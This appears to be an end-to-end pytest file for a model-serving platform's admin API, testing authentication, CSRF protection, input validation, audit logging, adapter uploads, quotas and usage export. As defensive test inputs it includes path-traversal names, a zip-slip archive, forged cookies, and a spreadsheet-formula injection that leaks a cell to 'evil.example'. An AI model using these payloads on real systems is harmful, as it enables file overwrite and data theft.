"""The admin API through a live server, on SQLite and PostgreSQL: every endpoint refuses
callers without the admin token (401) and cookie changes without the CSRF token (403),
bad input gets a 4xx naming the problem, every change leaves an audit row, and each JSON
answer matches the OpenAPI document the server publishes."""
from __future__ import annotations

import csv
import io
import json
import re
import zipfile

import httpx
import openai
import pytest
from openapi_spec_validator import validate as validate_spec

from loraplex.platform.admin.routes import OPS
from tests.e2e.admin_fixtures import (  # noqa: F401 - fixtures
    ADMIN_TOKEN,
    UPLOAD_LIMIT,
    adapter_files,
    admin_live,
    upload_adapters,
)
from tests.e2e.conftest import wait_idle

ERROR_KEYS = {"message", "type", "param", "code", "request_id"}


def _fill(path: str) -> str:
    return re.sub(r"{\w+}", "nobody", path)


def _err(r: httpx.Response, status: int, *words: str) -> dict:
    assert r.status_code == status, (r.status_code, r.text)
    err = r.json()["error"]
    assert set(err) == ERROR_KEYS and err["message"]
    for w in words:
        assert w.lower() in err["message"].lower(), (w, err["message"])
    return err


def _audited(api, action: str, target: str, **details) -> dict:
    rows = api.audit(action=action, target=target)
    assert rows, f"no audit row for {action} {target}"
    row = rows[0]
    assert row["actor"].startswith(("token:", "session:")) and row["at"]
    for k, v in details.items():
        assert row["details"].get(k) == v, (k, row["details"])
    return row


# -- the document and authentication ------------------------------------------------------

def test_openapi_document_is_valid_and_complete(admin_live):
    doc = admin_live.doc
    validate_spec(doc)
    ops = {(m.upper(), p) for p, item in doc["paths"].items() for m in item}
    assert ops == {(op.method, "/admin/api" + op.path) for op in OPS}
    ids = [op["operationId"] for item in doc["paths"].values() for op in item.values()]
    assert len(ids) == len(set(ids))


@pytest.mark.parametrize("op", [op for op in OPS if op.auth], ids=lambda op: f"{op.method} {op.path}")
def test_every_endpoint_needs_the_admin_token(admin_live, op):
    anon = admin_live.client(token=None)
    wrong = admin_live.client(token="not-the-admin-token-at-all")
    try:
        kw = {"json": {}} if op.body is not None else {}
        err = _err(anon.request(op.method, _fill(op.path), **kw), 401, "admin token")
        assert err["code"] == "invalid_admin_credentials"
        _err(wrong.request(op.method, _fill(op.path), **kw), 401, "invalid admin token")
        # An API key of a tenant is not an admin token either.
        r = anon.request(op.method, _fill(op.path), headers={"authorization": "Bearer lpx_0123456789ab_" + "a" * 43},
                         **kw)
        _err(r, 401)
        # A forged session cookie neither.
        r = httpx.request(op.method, f"{admin_live.url}/admin/api{_fill(op.path)}",
                          cookies={"lpx_admin_session": "v1.abc.def.9999999999.sig"}, **kw)
        _err(r, 401)
    finally:
        anon.close()
        wrong.close()


def test_sign_in_sets_a_strict_httponly_cookie(admin_live):
    ui = admin_live.client(token=None)
    try:
        _err(ui.get("/session"), 401)
        _err(ui.sign_in("wrong-token-wrong-token-wrong"), 401, "invalid admin token")
        _err(ui.post("/session", json={}), 400, "token")
        _err(ui.post("/session", content=b"token=x", headers={"content-type": "application/x-www-form-urlencoded"}),
             415, "JSON")
        r = ui.sign_in()
        assert r.status_code == 201, r.text
        cookies = r.headers.get_list("set-cookie")
        session = next(c for c in cookies if c.startswith("lpx_admin_session="))
        csrf = next(c for c in cookies if c.startswith("lpx_admin_csrf="))
        low = session.lower()
        assert "httponly" in low and "samesite=strict" in low and "path=/admin" in low
        assert "httponly" not in csrf.lower() and "samesite=strict" in csrf.lower()
        assert csrf.split(";")[0].split("=", 1)[1] == r.json()["csrf_token"]
        me = ui.get("/session").json()
        assert me["actor"].startswith("session:") and me["csrf_token"] == ui.csrf
        _audited(ui, "session.create", f"session:{me['actor'].split(':')[1].split()[0]}")
        # Sign out: the cookie is worthless afterwards (even if a copy was kept).
        kept = dict(ui.http.cookies)
        assert ui.delete("/session").status_code == 204
        r = httpx.get(f"{admin_live.url}/admin/api/tenants", cookies=kept)
        _err(r, 401, "signed out")
    finally:
        ui.close()


def test_cookie_changes_need_the_csrf_token(admin_live):
    ui = admin_live.client(token=None)
    api = admin_live.client()
    try:
        assert ui.sign_in().status_code == 201
        assert ui.get("/tenants").status_code == 200  # reads need no CSRF token
        for op in OPS:
            if not op.auth or op.method == "GET":
                continue
            kw = {"json": {"name": "csrf-victim"}} if op.body is not None else {}
            err = _err(ui.request(op.method, _fill(op.path), csrf=False, **kw), 403, "csrf")
            assert err["code"] == "csrf_failed"
            _err(ui.request(op.method, _fill(op.path), csrf=False, headers={"x-csrf-token": "forged"}, **kw), 403)
        # Nothing happened.
        assert api.get("/tenants/csrf-victim").status_code == 404
        # With the token, the same change goes through and is audited under the session.
        r = ui.post("/tenants", json={"name": "csrf-ok"})
        assert r.status_code == 201, r.text
        row = _audited(api, "tenant.create", "tenant:csrf-ok")
        assert row["actor"].startswith("session:")
    finally:
        ui.close()
        api.close()


# -- tenants ----------------------------------------------------------------------------------

def test_tenants(admin_live):
    api = admin_live.client()
    try:
        r = api.post("/tenants", json={"name": "t-acme", "default_lane": "interactive"})
        assert r.status_code == 201, r.text
        t = r.json()
        assert t["allowed_lanes"] == ["interactive", "standard", "batch"] and t["enabled"] and t["num_keys"] == 0
        _audited(api, "tenant.create", "tenant:t-acme", default_lane="interactive")
        _err(api.post("/tenants", json={"name": "t-acme"}), 409, "already exists")
        _err(api.post("/tenants", json={"name": "../etc"}), 400, "name")
        _err(api.post("/tenants", json={"name": "ok", "default_lane": "turbo"}), 400, "default_lane", "turbo")
        _err(api.post("/tenants", json={"name": "ok", "colour": "red"}), 400, "colour", "unknown field")
        _err(api.post("/tenants", json={"name": "ok", "default_lane": "batch", "allowed_lanes": ["standard"]}),
             400, "above")
        _err(api.post("/tenants", json=["t"]), 400, "JSON object")
        _err(api.post("/tenants", content=b"{nope", headers={"content-type": "application/json"}), 400, "not valid JSON")
        _err(api.post("/tenants", content=b"name=x", headers={"content-type": "text/plain"}), 415)
        _err(api.get("/tenants/t-nobody"), 404, "no tenant")
        assert "t-acme" in [x["name"] for x in api.get("/tenants").json()]
        assert api.get("/tenants/t-acme").json()["default_lane"] == "interactive"

        r = api.patch("/tenants/t-acme", json={"default_lane": "standard", "allowed_lanes": ["standard"]})
        assert r.status_code == 200 and r.json()["allowed_lanes"] == ["standard"], r.text
        row = _audited(api, "tenant.update", "tenant:t-acme")
        assert row["details"]["lanes"]["to"] == ["standard", ["standard"]]
        _err(api.patch("/tenants/t-acme", json={}), 400, "at least one")
        _err(api.patch("/tenants/t-acme", json={"enabled": "no"}), 400, "enabled", "boolean")
        _err(api.patch("/tenants/t-nobody", json={"enabled": False}), 404)

        # Scheduling: weight and request timeout, set at creation and changed later.
        assert (t["weight"], t["request_timeout"]) == (1.0, None)
        r = api.post("/tenants", json={"name": "t-heavy", "weight": 4, "request_timeout": 30})
        assert r.status_code == 201 and (r.json()["weight"], r.json()["request_timeout"]) == (4, 30), r.text
        r = api.patch("/tenants/t-heavy", json={"weight": 0.5})
        assert (r.json()["weight"], r.json()["request_timeout"]) == (0.5, 30)
        assert _audited(api, "tenant.update", "tenant:t-heavy")["details"]["weight"] == {"from": 4, "to": 0.5}
        assert api.patch("/tenants/t-heavy", json={"request_timeout": None}).json()["request_timeout"] is None
        _err(api.patch("/tenants/t-heavy", json={"weight": 0}), 400, "weight", "more than 0")
        _err(api.patch("/tenants/t-heavy", json={"weight": "2"}), 400, "weight", "number")
        _err(api.post("/tenants", json={"name": "t-x", "request_timeout": -1}), 400, "request_timeout")
        _err(api.post("/tenants", json={"name": "t-x", "weight": 1e9}), 400, "weight", "at most")
        assert api.get("/tenants/t-heavy").json()["weight"] == 0.5

        # Disabling takes effect at once for the tenant's keys, and enabling again too.
        key = api.post("/keys", json={"tenant": "t-acme"}).json()["key"]
        client = admin_live.openai(key)
        assert client.models.list().data
        assert api.patch("/tenants/t-acme", json={"enabled": False}).json()["enabled"] is False
        _audited(api, "tenant.disable", "tenant:t-acme")
        with pytest.raises(openai.AuthenticationError):
            client.models.list()
        assert api.patch("/tenants/t-acme", json={"enabled": True}).json()["enabled"] is True
        _audited(api, "tenant.enable", "tenant:t-acme")
        assert client.models.list().data
    finally:
        api.close()


# -- keys ---------------------------------------------------------------------------------------

def test_keys(admin_live):
    api = admin_live.client()
    try:
        assert api.post("/tenants", json={"name": "k-corp"}).status_code == 201
        r = api.post("/keys", json={"tenant": "k-corp", "name": "ci", "expires_in_days": 7})
        assert r.status_code == 201, r.text
        created = r.json()
        key, prefix = created["key"], created["prefix"]
        assert key.startswith(prefix + "_") and created["status"] == "active" and created["expires_at"]
        row = _audited(api, "key.create", f"key:{prefix}", tenant="k-corp", name="ci")
        assert key not in json.dumps(row)  # never the secret
        # Listed by prefix, without the secret; with last use once used.
        listed = api.get("/keys", params={"tenant": "k-corp"}).json()
        assert [k["prefix"] for k in listed] == [prefix] and "key" not in listed[0]
        assert api.get("/keys", params={"prefix": prefix[:8]}).json()[0]["prefix"] == prefix
        assert api.get("/keys", params={"prefix": prefix[4:10]}).json()[0]["prefix"] == prefix
        assert admin_live.openai(key).models.list().data
        _err(api.get("/keys", params={"prefix": "zz/../"}), 400, "prefix")
        _err(api.get("/keys", params={"status": "sleeping"}), 400, "status")
        _err(api.get("/keys", params={"limit": "many"}), 400, "limit", "integer")
        _err(api.get("/keys", params={"colour": "red"}), 400, "colour", "unknown query parameter")
        _err(api.get("/keys", params={"tenant": "nobody"}), 404, "no tenant")
        _err(api.post("/keys", json={"tenant": "nobody"}), 404, "no tenant")
        _err(api.post("/keys", json={}), 400, "tenant", "required")
        _err(api.post("/keys", json={"tenant": "k-corp", "expires_in_days": -1}), 400, "expires_in_days")
        _err(api.post("/keys", json={"tenant": "k-corp", "expires_at": "2001-01-01T00:00:00Z"}), 400, "future")
        _err(api.post("/keys", json={"tenant": "k-corp", "expires_at": "next tuesday"}), 400, "expires_at")

        r = api.delete(f"/keys/{prefix}")
        assert r.status_code == 200 and r.json()["status"] == "revoked" and r.json()["revoked_at"]
        _audited(api, "key.revoke", f"key:{prefix}", tenant="k-corp")
        with pytest.raises(openai.AuthenticationError):  # at once: the key cache was cleared
            admin_live.openai(key).models.list()
        assert api.get("/keys", params={"status": "revoked", "tenant": "k-corp"}).json()[0]["prefix"] == prefix
        _err(api.delete("/keys/lpx_000000000000"), 404, "no API key")
    finally:
        api.close()


# -- adapters -----------------------------------------------------------------------------------

def _names(api) -> set[str]:
    return {a["name"] for a in api.get("/adapters").json()}


def _upload(api, name: str, files, path: str = "/adapters", **fields) -> httpx.Response:
    data = {"name": name, **fields} if name is not None else fields
    return api.post(path, data=data, files=files)


def test_adapter_upload_grant_use_replace_remove(admin_live, upload_adapters):
    api = admin_live.client()
    b = admin_live.backend
    name = f"adm-{b}-sql"
    try:
        assert api.post("/tenants", json={"name": f"ad-{b}"}).status_code == 201
        key = api.post("/keys", json={"tenant": f"ad-{b}"}).json()["key"]
        client = admin_live.openai(key)

        r = _upload(api, name, adapter_files(upload_adapters["r4"]))
        assert r.status_code == 201, r.text
        a = r.json()
        assert a["rank"] == 4 and a["target_modules"] == ["q_proj", "v_proj"] and a["size_bytes"] > 0
        assert a["digest"].startswith("sha256:") and a["public"] is False and a["grants"] == []
        # (residency is per content digest: the shared engine may hold these weights already)
        assert a["residency"] in ("disk", "cpu", "device") and len(a["versions"]) == 1
        _audited(api, "adapter.upload", f"adapter:{name}", digest=a["digest"], rank=4)
        assert not list((admin_live.store.root / "uploads").iterdir())  # staging cleaned up
        _err(_upload(api, name, adapter_files(upload_adapters["r4"])), 409, "already exists")

        # Not granted: the tenant cannot see or use it.
        assert name not in {m.id for m in client.models.list().data}
        r = api.put(f"/adapters/{name}/grants/ad-{b}")
        assert r.status_code == 200 and r.json()["grants"] == [f"ad-{b}"], r.text
        _audited(api, "adapter.grant", f"adapter:{name}", tenant=f"ad-{b}")
        out = client.completions.create(model=name, prompt="Hello", max_tokens=4, temperature=0)
        assert out.model == name and out.usage.completion_tokens > 0
        assert wait_idle(admin_live.engine)
        assert api.get(f"/adapters/{name}").json()["residency"] in ("device", "cpu")
        eng = api.get("/engine").json()
        assert any(name in x["names"] for x in eng["resident_adapters"]), eng

        # Replace with a new version: rank 8, new digest, the old one kept.
        r = _upload(api, None, adapter_files(upload_adapters["r8"]), path=f"/adapters/{name}/versions")
        assert r.status_code == 200, r.text
        v2 = r.json()
        assert v2["rank"] == 8 and v2["digest"] != a["digest"] and len(v2["versions"]) == 2
        _audited(api, "adapter.replace", f"adapter:{name}", previous_digest=a["digest"], digest=v2["digest"])
        assert client.completions.create(model=name, prompt="Hi", max_tokens=2).usage.completion_tokens > 0
        assert wait_idle(admin_live.engine)
        now = api.get(f"/adapters/{name}").json()  # the new version ran at once, not the cached old one
        assert now["residency"] in ("device", "cpu") and now["versions"][0]["digest"] == v2["digest"]
        eng = api.get("/engine").json()["resident_adapters"]
        assert {f"{name} (older version)", name} <= {n for x in eng for n in x["names"]}
        _err(_upload(api, None, adapter_files(upload_adapters["r8"]), path="/adapters/adm-nothing/versions"), 404)
        _err(_upload(api, "x", adapter_files(upload_adapters["r8"]), path=f"/adapters/{name}/versions"), 400,
             "unknown form field")

        # Revoke the grant, make public, make private, owner.
        assert api.delete(f"/adapters/{name}/grants/ad-{b}").json()["grants"] == []
        _audited(api, "adapter.revoke_grant", f"adapter:{name}", tenant=f"ad-{b}")
        with pytest.raises(openai.NotFoundError):
            client.completions.create(model=name, prompt="Hi", max_tokens=2)
        _err(api.delete(f"/adapters/{name}/grants/ad-{b}"), 404, "no grant")
        _err(api.put(f"/adapters/{name}/grants/nobody"), 404, "no tenant")
        assert api.patch(f"/adapters/{name}", json={"public": True}).json()["public"] is True
        _audited(api, "adapter.make_public", f"adapter:{name}", public=True)
        assert name in {m.id for m in client.models.list().data}
        assert api.patch(f"/adapters/{name}", json={"public": False, "owner": f"ad-{b}"}).json()["owner"] == f"ad-{b}"
        _audited(api, "adapter.update", f"adapter:{name}")
        _err(api.patch(f"/adapters/{name}", json={"public": "yes"}), 400, "public")
        _err(api.patch(f"/adapters/{name}", json={"owner": "nobody"}), 404, "no tenant")

        # Remove: gone from the listing, the store and the tenant's models.
        r = api.delete(f"/adapters/{name}")
        assert r.status_code == 200 and r.json()["removed"] is True
        _audited(api, "adapter.remove", f"adapter:{name}", digest=v2["digest"])
        assert name not in _names(api) and name not in {x.name for x in admin_live.store.list()}
        with pytest.raises(openai.NotFoundError):
            client.completions.create(model=name, prompt="Hi", max_tokens=2)
        _err(api.delete(f"/adapters/{name}"), 404, "no adapter")
        _err(api.get(f"/adapters/{name}"), 404, "no adapter")
    finally:
        api.close()


def test_adapter_zip_upload_public_with_grants(admin_live, upload_adapters):
    api = admin_live.client()
    name = f"adm-{admin_live.backend}-zip"
    try:
        assert api.post("/tenants", json={"name": f"zg-{admin_live.backend}"}).status_code == 201
        z = upload_adapters["zip"]
        r = _upload(api, name, [("files", ("my-adapter.zip", z.read_bytes(), "application/zip"))], public="true",
                    grants=f"zg-{admin_live.backend}")
        assert r.status_code == 201, r.text
        a = r.json()
        assert a["rank"] == 4 and a["public"] is True and a["grants"] == [f"zg-{admin_live.backend}"]
        assert name in _names(api)
        assert api.delete(f"/adapters/{name}").status_code == 200
    finally:
        api.close()


def _bad_zip() -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        zf.writestr("../../evil/adapter_config.json", "{}")
        zf.writestr("adapter_model.safetensors", b"x")
    return buf.getvalue()


def test_bad_uploads_change_nothing(admin_live, upload_adapters):
    api = admin_live.client()
    folder = upload_adapters["r4"]
    cfg = (folder / "adapter_config.json").read_bytes()
    weights = (folder / "adapter_model.safetensors").read_bytes()
    bad_cfg = json.dumps({**json.loads(cfg), "r": 0}).encode()
    try:
        names_before = _names(api)
        store_before = [(r.name, r.digest) for r in admin_live.store.list()]
        audit_before = len(api.audit())
        f = lambda n, b: ("files", (n, b, "application/octet-stream"))  # noqa: E731
        cases = [
            # (name, files, status, words in the message)
            ("../evil", [f("adapter_config.json", cfg), f("adapter_model.safetensors", weights)], 400, "invalid adapter name"),
            ("a/b", [f("adapter_config.json", cfg), f("adapter_model.safetensors", weights)], 400, "invalid adapter name"),
            (".hidden", [f("adapter_config.json", cfg), f("adapter_model.safetensors", weights)], 400, "invalid adapter name"),
            (admin_live.model, [f("adapter_config.json", cfg), f("adapter_model.safetensors", weights)], 400, "base model"),
            ("adm-bad", [f("adapter_config.json", cfg)], 400, "adapter_model.safetensors is missing"),
            ("adm-bad", [f("adapter_model.safetensors", weights)], 400, "adapter_config.json is missing"),
            ("adm-bad", [], 400, "no adapter files"),
            ("adm-bad", [f("adapter_config.json", bad_cfg), f("adapter_model.safetensors", weights)], 400, "rank"),
            ("adm-bad", [f("adapter_config.json", cfg), f("adapter_model.safetensors", b"\x10" + b"\0" * 7 + b"{garbage")],
             400, "safetensors"),
            ("adm-bad", [f("adapter_model.bin", b"\x80\x02}q\x00.")], 400, "pickled"),
            ("adm-bad", [f("a.zip", _bad_zip())], 400, "zip"),
            ("adm-bad", [f("notes.txt", b"hello")], 400, "neither"),
            ("adm-bad", [f("adapter_config.json", cfg), f("adapter_model.safetensors", weights), f("x", b"y")], 400,
             "at most two files"),
        ]
        for name, files, status, words in cases:
            if files:
                r = api.post("/adapters", data={"name": name}, files=files)
            else:  # a multipart body with the name field only
                r = api.post("/adapters", headers={"content-type": "multipart/form-data; boundary=xyz"},
                             content=b'--xyz\r\nContent-Disposition: form-data; name="name"\r\n\r\n'
                                     b"adm-bad\r\n--xyz--\r\n")
            _err(r, status, words)
        # Oversized: 413 without taking it in.
        big = [f("adapter_config.json", cfg), f("adapter_model.safetensors", b"\0" * (UPLOAD_LIMIT + 1))]
        _err(api.post("/adapters", data={"name": "adm-big"}, files=big), 413, "limit")
        # Not multipart; no name; unknown field.
        _err(api.post("/adapters", json={"name": "adm-json"}), 415, "multipart")
        _err(api.post("/adapters", files=[f("adapter_config.json", cfg), f("adapter_model.safetensors", weights)]),
             400, "name")
        _err(api.post("/adapters", data={"name": "adm-x", "colour": "red"},
                      files=[f("adapter_config.json", cfg), f("adapter_model.safetensors", weights)]), 400, "colour")
        _err(api.post("/adapters", data={"name": "adm-x", "public": "maybe"},
                      files=[f("adapter_config.json", cfg), f("adapter_model.safetensors", weights)]), 400, "public")
        _err(api.post("/adapters", data={"name": "adm-x", "owner": "nobody"},
                      files=[f("adapter_config.json", cfg), f("adapter_model.safetensors", weights)]), 404, "no tenant")
        # Path tricks in URLs.
        _err(api.get("/adapters/%2E%2E"), 400, "invalid adapter name")
        _err(api.delete("/adapters/a%5Cb"), 400, "invalid adapter name")
        _err(api.patch("/adapters/%2Eenv", json={"public": True}), 400, "invalid adapter name")
        _err(api.get("/adapters/..%2F..%2Fetc"), 404)  # a slash never reaches a name: no such route

        assert _names(api) == names_before
        assert [(r.name, r.digest) for r in admin_live.store.list()] == store_before
        assert not list((admin_live.store.root / "uploads").iterdir())
        assert len(api.audit()) == audit_before  # failures change nothing, so audit nothing
    finally:
        api.close()


# -- engine, audit -------------------------------------------------------------------------

def test_engine_status(admin_live):
    api = admin_live.client()
    try:
        e = api.get("/engine").json()
        assert set(e["lanes"]) == {"interactive", "standard", "batch"}
        assert 0.0 <= e["kv_cache_usage"] <= 1.0 and e["num_kv_blocks"] > 0 and e["model"] == admin_live.model
        assert e["max_loras"] >= 1 and e["running"] is True
    finally:
        api.close()


def test_audit_listing(admin_live):
    api = admin_live.client()
    try:
        assert api.post("/tenants", json={"name": "audit-a"}).status_code == 201
        assert api.post("/tenants", json={"name": "audit-b"}).status_code == 201
        rows = api.get("/audit", params={"limit": 2}).json()
        assert [r["target"] for r in rows] == ["tenant:audit-b", "tenant:audit-a"]
        older = api.get("/audit", params={"before": rows[1]["id"], "limit": 1}).json()
        assert older and older[0]["id"] < rows[1]["id"]
        assert {r["action"] for r in api.get("/audit", params={"action": "tenant.create"}).json()} == {"tenant.create"}
        _err(api.get("/audit", params={"limit": 0}), 400, "limit")
        _err(api.get("/audit", params={"before": "x"}), 400, "before")
    finally:
        api.close()


def test_unknown_routes_and_methods(admin_live):
    api = admin_live.client()
    try:
        _err(api.get("/nothing-here"), 404)
        r = api.request("PUT", "/tenants")
        assert r.status_code == 405 and set(r.headers["allow"].replace(" ", "").split(",")) >= {"GET", "POST"}
        r = api.request("POST", "/adapters/x/grants/y")
        assert r.status_code == 405 and set(r.headers["allow"].replace(" ", "").split(",")) == {"PUT", "DELETE"}
    finally:
        api.close()


# -- quotas and usage ------------------------------------------------------------------------

def test_quotas(admin_live):
    api = admin_live.client()
    t = f"q-{admin_live.backend}"
    try:
        r = api.post("/tenants", json={"name": t, "quotas": {"rpm": 100}})
        assert r.status_code == 201 and r.json()["quotas"]["rpm"] == 100, r.text
        _audited(api, "tenant.create", f"tenant:{t}", quotas={"rpm": 100})
        key = api.post("/keys", json={"tenant": t}).json()["key"]
        client = admin_live.openai(key)
        assert client.completions.create(model=admin_live.model, prompt="Hi", max_tokens=2).usage
        # A budget smaller than prompt + max_tokens: refused at once (the cache was cleared).
        r = api.patch(f"/tenants/{t}", json={"quotas": {"token_budget": 5, "budget_period": "day"}})
        assert r.status_code == 200, r.text
        q = r.json()["quotas"]
        assert q["token_budget"] == 5 and q["budget_period"] == "day" and q["rpm"] == 100
        row = _audited(api, "tenant.update", f"tenant:{t}")
        assert row["details"]["quotas"] == {"token_budget": 5, "budget_period": "day"}
        with pytest.raises(openai.RateLimitError):
            client.completions.create(model=admin_live.model, prompt="Hello there", max_tokens=10)
        assert api.patch(f"/tenants/{t}", json={"quotas": {"token_budget": None}}).json()["quotas"]["token_budget"] is None
        assert client.completions.create(model=admin_live.model, prompt="Hi", max_tokens=2).usage
        assert api.get(f"/tenants/{t}").json()["quotas"]["requests_this_minute"] >= 2
        _err(api.patch(f"/tenants/{t}", json={"quotas": {"rpm": -1}}), 400, "quotas.rpm")
        _err(api.patch(f"/tenants/{t}", json={"quotas": {"colour": 1}}), 400, "colour")
        _err(api.patch(f"/tenants/{t}", json={"quotas": {"budget_period": "week"}}), 400, "budget_period")
        assert api.patch(f"/tenants/{t}", json={"quotas": None}).json()["quotas"]["rpm"] is None
    finally:
        api.close()


def test_usage_series_and_export(admin_live, upload_adapters):
    import time

    api = admin_live.client()
    b = admin_live.backend
    t, name = f"u-{b}", f"adm-{b}-usage"
    try:
        assert api.post("/tenants", json={"name": t}).status_code == 201
        key = api.post("/keys", json={"tenant": t}).json()["key"]
        assert _upload(api, name, adapter_files(upload_adapters["r4"]), grants=t).status_code == 201
        client = admin_live.openai(key)
        formula = '=HYPERLINK("http://evil.example/?leak="&A1,"open")'  # a client-chosen x-request-id
        outs = [client.completions.create(model=m, prompt="Hello", max_tokens=3, extra_headers={"x-request-id": rid})
                for m, rid in ((admin_live.model, formula), (name, "@SUM(A1)"))]
        want = sum(o.usage.total_tokens for o in outs)
        deadline = time.monotonic() + 20
        while True:  # metering writes in batches: wait for it
            series = api.get("/usage", params={"tenant": t}).json()["series"]
            got = sum(s["totals"]["total_tokens"] for s in series)
            if got >= want or time.monotonic() > deadline:
                break
            time.sleep(0.2)
        assert got == want and [s["key"] for s in series] == [t]
        by_adapter = api.get("/usage", params={"tenant": t, "group_by": "adapter"}).json()
        keys = {s["key"]: s["totals"]["total_tokens"] for s in by_adapter["series"]}
        assert keys == {"(base model)": outs[0].usage.total_tokens, name: outs[1].usage.total_tokens}
        daily = api.get("/usage", params={"tenant": t, "granularity": "day"}).json()
        assert sum(s["totals"]["total_tokens"] for s in daily["series"]) == want

        csv_ = api.get("/usage/export", params={"tenant": t, "format": "csv"})
        assert csv_.status_code == 200 and csv_.headers["content-type"].startswith("text/csv")
        assert "attachment" in csv_.headers["content-disposition"]
        assert all(o.id in csv_.text for o in outs)
        rows = list(csv.DictReader(io.StringIO(csv_.text)))  # formula cells arrive as text, counts as numbers
        assert {r["correlation_id"] for r in rows} == {"'" + formula, "'@SUM(A1)"}
        assert all(r["total_tokens"].isdigit() for r in rows)
        lines = api.get("/usage/export", params={"tenant": t, "format": "jsonl"}).text.splitlines()
        assert {json.loads(x)["request_id"] for x in lines} == {o.id for o in outs}
        ce = [json.loads(x) for x in api.get("/usage/export", params={"tenant": t, "format": "cloudevents"})
              .text.splitlines()]
        assert {e["id"] for e in ce} == {o.id for o in outs} and all(e["specversion"] == "1.0" for e in ce)

        _err(api.get("/usage", params={"group_by": "colour"}), 400, "group_by")
        _err(api.get("/usage", params={"from": "yesterday"}), 400, "from")
        _err(api.get("/usage", params={"from": "2026-01-02", "to": "2026-01-01"}), 400, "after")
        _err(api.get("/usage", params={"tenant": "nobody"}), 404, "no tenant")
        _err(api.get("/usage/export", params={"format": "xml"}), 400, "format")
        _err(api.get("/usage/export", params={"tenant": "nobody"}), 404, "no tenant")
        assert api.delete(f"/adapters/{name}").status_code == 200
    finally:
        api.close()
